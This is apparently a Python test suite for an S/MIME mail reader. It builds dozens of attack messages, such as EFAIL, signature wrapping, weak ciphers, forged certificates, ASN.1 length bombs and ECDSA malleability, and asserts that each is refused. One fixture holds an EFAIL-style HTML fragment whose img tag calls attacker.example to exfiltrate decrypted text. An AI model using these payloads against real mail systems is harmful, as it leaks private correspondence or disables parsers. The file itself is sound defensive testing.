"""Mail that is refused, each attack for its own reason, beside a twin that differs only in the attack."""

import contextlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric import utils
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from smime_handmade import elements, oid, tlv
from smime_network import TEAM, Network, made
from smime_people import Person, ec_key, rsa_key
from smime_shapes import (
    APPLE_MAIL,
    CONTENT,
    THUNDERBIRD,
    clear_signed,
    cms_entity,
    encrypted,
    envelope,
    message,
    mixed,
    signature,
)

from ivr.adapters.smime import cms
from ivr.adapters.smime.refusal import Refusal
from ivr.domain.mail import Reason, Refused


@pytest.fixture(scope="module")
def network(tmp_path_factory: pytest.TempPathFactory) -> Network:
    return made(tmp_path_factory.mktemp("a network"))


TEXT = b"Content-Type: text/html\r\n\r\n<img src='http://attacker.example/"


def detached(network: Network, *options: str, content: bytes = CONTENT, signers: int = 1) -> bytes:
    """multipart/signed, by the team."""
    people = (network.team, network.stranger)[:signers]
    return clear_signed(APPLE_MAIL, content, signature(content, *people, detached=True, options=options))


def opaque(network: Network, *options: str, content: bytes = CONTENT, signers: int = 1) -> bytes:
    """Signed in one piece, by the team."""
    people = (network.team, network.stranger)[:signers]
    structure = signature(content, *people, detached=False, options=options)
    return cms_entity(APPLE_MAIL, "signed-data", structure)


Raw = Callable[[Network], bytes]
"""Makes a message."""


def clear(network: Network, signed: bytes, *more: bytes, by: Person | None = None, **how: bytes) -> bytes:
    """multipart/signed of the content, with a signature over what it may not be."""
    structure = signature(signed, by or network.team, detached=True)
    return clear_signed(APPLE_MAIL, CONTENT, structure, *more, **how)


def wrapped(network: Network, entity: bytes | None = None) -> bytes:
    """Encrypted, and not yet a message."""
    return encrypted(APPLE_MAIL, entity or detached(network), network.own)


def from_team(entity: bytes) -> bytes:
    return message(APPLE_MAIL, entity, TEAM)


def sent(entity: Callable[[Network], bytes]) -> Raw:
    return lambda network: network.mail(entity(network))


GOOD: dict[str, Raw] = {"detached": sent(detached), "opaque": sent(opaque)}


def signed_by_a_stranger(network: Network, entity: bytes, in_one_piece: bool) -> bytes:
    structure = signature(entity, network.stranger, detached=not in_one_piece)
    if in_one_piece:
        return cms_entity(APPLE_MAIL, "signed-data", structure)
    return clear_signed(APPLE_MAIL, entity, structure)


ATTACKS: dict[str, tuple[Raw, Reason]] = {
    "nothing at all": (lambda n: from_team(CONTENT), Reason.NOT_ENCRYPTED),
    "signed only": (lambda n: from_team(detached(n)), Reason.NOT_ENCRYPTED),
    "signed only, in one piece": (lambda n: from_team(opaque(n)), Reason.NOT_ENCRYPTED),
    "encrypted only": (sent(lambda n: CONTENT), Reason.NOT_SIGNED),
    "encrypted, then signed by a stranger": (
        lambda n: from_team(signed_by_a_stranger(n, wrapped(n, CONTENT), False)),
        Reason.SIGNED_OUTSIDE,
    ),
    "encrypted, then signed by a stranger in one piece": (
        lambda n: from_team(signed_by_a_stranger(n, wrapped(n, CONTENT), True)),
        Reason.SIGNED_OUTSIDE,
    ),
    "wrapped three times": (
        lambda n: from_team(signed_by_a_stranger(n, wrapped(n), False)),
        Reason.SIGNED_OUTSIDE,
    ),
    "encrypted to somebody else": (
        lambda n: from_team(encrypted(APPLE_MAIL, detached(n), n.stranger)),
        Reason.NOT_TO_US,
    ),
    "text around what is encrypted (direct exfiltration)": (
        lambda n: from_team(mixed(TEXT, wrapped(n), TEXT)),
        Reason.NOT_WHOLLY_SIGNED,
    ),
    "text before what is signed": (sent(lambda n: mixed(TEXT, detached(n))), Reason.NOT_WHOLLY_SIGNED),
    "text after what is signed in one piece": (
        sent(lambda n: mixed(opaque(n), TEXT)),
        Reason.NOT_WHOLLY_SIGNED,
    ),
    "a third part": (sent(lambda n: clear(n, CONTENT, TEXT)), Reason.NOT_WHOLLY_SIGNED),
    "text after the last part": (
        sent(lambda n: clear(n, CONTENT, after=TEXT)),
        Reason.NOT_WHOLLY_SIGNED,
    ),
    "text before the first part": (
        sent(lambda n: detached(n).replace(b"\r\n\r\n--Apple", b"\r\n\r\nAlert is over.\r\n--Apple", 1)),
        Reason.NOT_WHOLLY_SIGNED,
    ),
    "a letter where a greeting is": (
        sent(lambda n: detached(n).replace(b"\r\n\r\n--Apple", LETTER + b"\r\n--Apple", 1)),
        Reason.NOT_WHOLLY_SIGNED,
    ),
    "two have signed": (sent(lambda n: detached(n, signers=2)), Reason.SEVERAL_SIGNATURES),
    "two have signed in one piece": (sent(lambda n: opaque(n, signers=2)), Reason.SEVERAL_SIGNATURES),
    "certificates and no signature": (
        sent(lambda n: cms_entity(APPLE_MAIL, "certs-only", without_signers(n))),
        Reason.NOT_SIGNED,
    ),
    "no signed attributes": (sent(lambda n: detached(n, "-noattr")), Reason.WEAK_SIGNATURE),
    "SHA-1": (sent(lambda n: detached(n, "-md", "sha1")), Reason.WEAK_SIGNATURE),
    "MD5": (sent(lambda n: detached(n, "-md", "md5")), Reason.WEAK_SIGNATURE),
    "SHA-1 in PSS": (
        sent(lambda n: opaque(n, "-md", "sha1", "-keyopt", "rsa_padding_mode:pss")),
        Reason.WEAK_SIGNATURE,
    ),
    "3DES": (lambda n: n.mail(detached(n), cipher="-des3"), Reason.WEAK_CIPHER),
    "RC2": (lambda n: n.mail(detached(n), cipher="-rc2-128", options=LEGACY), Reason.WEAK_CIPHER),
    "DES": (lambda n: n.mail(detached(n), cipher="-des", options=LEGACY), Reason.WEAK_CIPHER),
    "a signature of another content": (sent(lambda n: clear(n, CONTENT + b"!")), Reason.BAD_SIGNATURE),
    "one character changed": (
        sent(lambda n: detached(n).replace(b"exploit", b"Exploit")),
        Reason.BAD_SIGNATURE,
    ),
    "a signature with a content of its own": (
        sent(lambda n: clear_signed(APPLE_MAIL, TEXT, signature(CONTENT, n.team, detached=False))),
        Reason.MALFORMED,
    ),
    "a signature of nothing": (
        sent(lambda n: cms_entity(APPLE_MAIL, "signed-data", signature(CONTENT, n.team, detached=True))),
        Reason.MALFORMED,
    ),
    "signed by somebody nobody knows": (
        sent(lambda n: clear(n, CONTENT, by=n.stranger)),
        Reason.UNKNOWN_SIGNER,
    ),
    "encrypted twice": (sent(wrapped), Reason.TOO_COMPLEX),
    "signed twice, apart": (sent(lambda n: opaque(n, content=detached(n))), Reason.TOO_COMPLEX),
    "signed twice": (sent(lambda n: detached(n, content=opaque(n))), Reason.TOO_COMPLEX),
    "encrypted within the signature": (
        sent(lambda n: detached(n, content=wrapped(n, CONTENT))),
        Reason.TOO_COMPLEX,
    ),
    "compressed": (sent(lambda n: cms_entity(APPLE_MAIL, "compressed-data", COMPRESSED)), Reason.TOO_COMPLEX),
    "a content without an end of its headers": (
        sent(lambda n: opaque(n, content=b"Content-Type: text/plain\r\n")),
        Reason.MALFORMED,
    ),
    "two content types": (
        lambda n: from_team(b"Content-Type: text/plain\r\n" + wrapped(n)),
        Reason.MALFORMED,
    ),
    "a line that is no header field": (
        lambda n: from_team(b"Whatever this is\r\n" + wrapped(n)),
        Reason.MALFORMED,
    ),
    "a name in two ways": (
        lambda n: from_team(wrapped(n).replace(b'; filename="smime.p7m"', b"; filename*0*=a; filename*=b")),
        Reason.MALFORMED,
    ),
    "a name in no charset": (
        lambda n: from_team(wrapped(n).replace(b'filename="smime.p7m"', b"filename*=\0''smime.p7m")),
        Reason.MALFORMED,
    ),
    "a name in no charset, in pieces": (
        lambda n: from_team(wrapped(n).replace(b'filename="smime.p7m"', b"filename*0*=%00''smime.p7m")),
        Reason.MALFORMED,
    ),
    "a boundary in two ways": (
        sent(lambda n: detached(n).replace(b"; boundary=", b"; boundary*0*=a; boundary*=b; boundary=", 1)),
        Reason.MALFORMED,
    ),
    "a signature with a name in two ways": (
        sent(lambda n: detached(n).replace(b'; name="smime.p7s"', b"; name*0*=a; name*=b")),
        Reason.MALFORMED,
    ),
    "something after the base64": (lambda n: from_team(wrapped(n) + b"*****\r\n"), Reason.MALFORMED),
    "broken base64": (lambda n: from_team(wrapped(n).replace(b"A", b"*", 60)), Reason.MALFORMED),
}

P_256 = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
"""The order of the curve."""
LETTER = b"\r\n\r\nThis is a warning: " + b"call another number. " * 20
LEGACY = ("-provider", "legacy", "-provider", "default")
COMPRESSED = tlv(0x30, tlv(6, bytes.fromhex("2a864886f70d0109100109")), tlv(0xA0, tlv(0x30, tlv(2, b"\0"))))


def without_signers(network: Network) -> bytes:
    """Signed data as certs-only has it."""
    [info] = elements(signature(CONTENT, network.team, detached=False))
    kind, content = elements(info[1])
    [data] = elements(content[1])
    *fields, _ = elements(data[1])
    return tlv(0x30, tlv(*kind), tlv(0xA0, tlv(0x30, *(tlv(*field) for field in fields), tlv(0x31))))


def with_the_other_s(structure: bytes) -> bytes:
    """The structure with the one signer's (r, n - s) in the place of (r, s)."""
    [(_, info)] = elements(structure)
    kind, (_, content) = elements(info)
    [(_, data)] = elements(content)
    *fields, (_, signers) = elements(data)
    [(_, signer)] = elements(signers)
    *more, (octets, value) = elements(signer)
    r, s = utils.decode_dss_signature(value)
    changed = tlv(0x30, *(tlv(*f) for f in more), tlv(octets, utils.encode_dss_signature(r, P_256 - s)))
    rest = tlv(0x30, *(tlv(*field) for field in fields), tlv(0x31, changed))
    return tlv(0x30, tlv(*kind), tlv(0xA0, rest))


@pytest.mark.parametrize("name", GOOD)
def test_the_twin_is_taken(network: Network, name: str) -> None:
    assert network.opened(GOOD[name](network)).content == CONTENT


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_refused(network: Network, name: str) -> None:
    make, reason = ATTACKS[name]

    refused = network.refused(make(network))

    assert refused.reason is reason, refused
    assert "exploit" not in refused.detail


def test_cbc_changed_on_the_way(network: Network) -> None:
    """EFAIL: blocks of the content garbled, or cut out, while headers and signature stay."""
    content = CONTENT + b"".join(b"%06d and so on\r\n" % n for n in range(100))
    structure = envelope(detached(network, content=content), network.own)
    assert network.opened(raw_of(structure)).content == content
    middle = len(structure) // 4

    garbled = structure[:middle] + bytes((structure[middle] ^ 1,)) + structure[middle + 1 :]

    assert network.refused(raw_of(garbled)).reason is Reason.BAD_SIGNATURE


def test_gcm_changed_on_the_way(network: Network) -> None:
    structure = envelope(detached(network), network.own, cipher="-aes-256-gcm")
    middle = len(structure) // 2

    garbled = structure[:middle] + bytes((structure[middle] ^ 1,)) + structure[middle + 1 :]

    assert network.opened(raw_of(structure)).content == CONTENT
    assert network.refused(raw_of(garbled)).reason is Reason.MALFORMED


def test_gcm_with_a_tag_that_is_soon_guessed(network: Network) -> None:
    structure = envelope(detached(network), network.own, cipher="-aes-256-gcm")
    [(_, info)] = elements(structure)
    kind, (_, content) = elements(info)
    [(_, data)] = elements(content)
    *fields, (tag, mac) = elements(data)
    rest = [tlv(*field) for field in fields]

    def ending_in(octets: bytes) -> bytes:
        return tlv(0x30, tlv(*kind), tlv(0xA0, tlv(0x30, *rest, tlv(tag, octets))))

    assert network.opened(raw_of(ending_in(mac))).content == CONTENT
    assert network.refused(raw_of(ending_in(mac[:4]))).reason is Reason.NO_INTEGRITY


def test_gcm_put_as_what_has_no_tag(network: Network) -> None:
    structure = envelope(detached(network), network.own, cipher="-aes-256-gcm")
    [(_, info)] = elements(structure)
    _, (_, content) = elements(info)
    [(_, data)] = elements(content)
    fields = [tlv(*field) for field in elements(data)[:-1]]

    raw = raw_of(tlv(0x30, oid(cms.ENVELOPED), tlv(0xA0, tlv(0x30, *fields))))

    assert network.refused(raw).reason is Reason.NO_INTEGRITY


def test_a_certificate_made_to_look_like_the_teams(network: Network, tmp_path: Path) -> None:
    """Issuer, serial number, subject and address are the team's; the key is not."""
    pinned = network.team.certificate
    forged = network.authority.certify(tmp_path / "forged", TEAM, rsa_key(), serial=pinned.serial_number)
    assert (forged.certificate.issuer, forged.certificate.subject) == (pinned.issuer, pinned.subject)

    entity = clear_signed(APPLE_MAIL, CONTENT, signature(CONTENT, forged, detached=True))

    assert network.refused(network.mail(entity)).reason is Reason.BAD_SIGNATURE


def test_a_strangers_certificate_beside_the_teams(network: Network) -> None:
    """Anybody's certificates in the message neither help nor harm."""
    entity = detached(network, "-certfile", str(network.stranger.pem))

    assert network.opened(network.mail(entity)).signer == network.team.fingerprint


def test_the_teams_certificate_beside_a_strangers_signature(network: Network) -> None:
    structure = signature(
        CONTENT, network.stranger, detached=True, options=("-certfile", str(network.team.pem))
    )

    entity = clear_signed(APPLE_MAIL, CONTENT, structure)

    assert network.refused(network.mail(entity)).reason is Reason.UNKNOWN_SIGNER


def test_an_ecdsa_signature_changed_without_the_key(tmp_path: Path) -> None:
    """(r, s) and (r, n - s) are both right (SEC 1, 4.1.4): it must not count as another signature."""
    network = made(tmp_path / "a network", lambda a, at: a.certify(at, TEAM, ec_key()))
    structure = signature(CONTENT, network.team, detached=True)
    plain = clear_signed(APPLE_MAIL, CONTENT, structure)

    changed = clear_signed(APPLE_MAIL, CONTENT, with_the_other_s(structure))

    ids = {network.opened(network.mail(entity)).signature_id for entity in (plain, changed)}
    assert len(ids) == 1


@pytest.mark.parametrize("depth", [20, 50_000])
def test_lengths_that_never_end(network: Network, depth: int) -> None:
    bomb = tlv(0x06, bytes.fromhex("2a864886f70d010703")) + b"\xa0\x80" * depth
    raw = raw_of(b"\x30\x80" + bomb)

    assert network.refused(raw).reason is Reason.TOO_COMPLEX


def test_elements_without_number(network: Network) -> None:
    raw = raw_of(b"\x30\x80" + b"\x05\x00" * 200_000 + b"\x00\x00")

    assert network.refused(raw).reason is Reason.TOO_COMPLEX


@pytest.mark.parametrize("length", [0, 1, 2, 30, 300, -1])
def test_cut_off(network: Network, length: int) -> None:
    structure = envelope(detached(network), network.own)

    assert network.refused(raw_of(structure[:length])).reason is Reason.MALFORMED


def test_something_after_the_structure(network: Network) -> None:
    structure = envelope(detached(network), network.own)

    assert network.refused(raw_of(structure + b"\x05\x00")).reason is Reason.MALFORMED


@given(st.data())
@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_a_message_that_was_damaged_is_never_taken_for_another(network: Network, data: st.DataObject) -> None:
    raw = GOOD[data.draw(st.sampled_from(sorted(GOOD)))](network)
    for _ in range(data.draw(st.integers(1, 3))):
        at = data.draw(st.integers(0, len(raw) - 1))
        raw = raw[:at] + data.draw(st.binary(max_size=3)) + raw[at + data.draw(st.integers(0, 40)) :]

    found = network.open(raw)

    assert isinstance(found, Refused) or found.content == CONTENT


@given(st.binary(max_size=60), st.sampled_from(["enveloped", "signed"]), st.data())
@settings(max_examples=400, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_the_reader_of_cms_only_ever_refuses(
    network: Network, piece: bytes, kind: str, data: st.DataObject
) -> None:
    good = ENVELOPES[kind](network)
    at = data.draw(st.integers(0, min(400, len(good) - 1)))
    damaged = good[:at] + piece + good[at + data.draw(st.integers(0, 60)) :]

    for read in (lambda _, content: cms.signed(content), cms.enveloped):
        with contextlib.suppress(Refusal):
            read(*cms.content_of(damaged))


ENVELOPES: dict[str, Raw] = {
    "enveloped": cache(lambda n: envelope(CONTENT, n.own)),
    "signed": cache(lambda n: signature(CONTENT, n.team, detached=False)),
}


def raw_of(structure: bytes) -> bytes:
    return message(THUNDERBIRD, cms_entity(THUNDERBIRD, "enveloped-data", structure), TEAM)
